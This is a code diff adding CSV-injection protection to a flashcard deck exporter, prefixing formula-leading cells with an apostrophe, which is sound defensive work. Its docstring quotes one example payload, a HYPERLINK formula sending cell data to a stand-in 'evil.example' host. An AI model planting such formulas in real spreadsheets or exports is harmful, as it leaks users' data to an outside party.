@@ -3,6 +3,11 @@
 Columns: id, deck, kind, topic, question, answer, explanation, tags, lab. Multi-line cells (the
 choices under a question, several accepted answers) keep their line breaks inside quotes; tags are
 joined with "; ". The lab column holds the linked lab's name.
+
+A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and some also after
+a tab or a carriage return), so a card reading `=HYPERLINK("http://evil.example/?"&A1)` would
+become a live link that leaks the sheet: such cells get a `'` in front, which spreadsheets read
+as "this is text" and do not show (OWASP's advice for CSV injection).
 """
 
 from __future__ import annotations
@@ -15,6 +20,12 @@ from studykit.deck.model import Deck
 
 COLUMNS = ("id", "deck", "kind", "topic", "question", "answer", "explanation", "tags", "lab")
 TAG_SEPARATOR = "; "
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def cell(value: str) -> str:
+    """`value` as a cell no spreadsheet runs as a formula."""
+    return "'" + value if value.startswith(FORMULA_STARTS) else value
 
 
 def to_csv(decks: list[Deck]) -> str:
@@ -24,17 +35,16 @@ def to_csv(decks: list[Deck]) -> str:
     writer.writeheader()
     for deck in decks:
         for card in deck.cards:
-            writer.writerow(
-                {
-                    "id": card.id,
-                    "deck": deck.id,
-                    "kind": card.kind,
-                    "topic": card.topic,
-                    "question": question_text(card),
-                    "answer": answer_text(card),
-                    "explanation": card.explanation,
-                    "tags": TAG_SEPARATOR.join(card.tags),
-                    "lab": card.lab.name if card.lab else "",
-                }
-            )
+            row = {
+                "id": card.id,
+                "deck": deck.id,
+                "kind": card.kind,
+                "topic": card.topic,
+                "question": question_text(card),
+                "answer": answer_text(card),
+                "explanation": card.explanation,
+                "tags": TAG_SEPARATOR.join(card.tags),
+                "lab": card.lab.name if card.lab else "",
+            }
+            writer.writerow({column: cell(value) for column, value in row.items()})
     return buffer.getvalue()
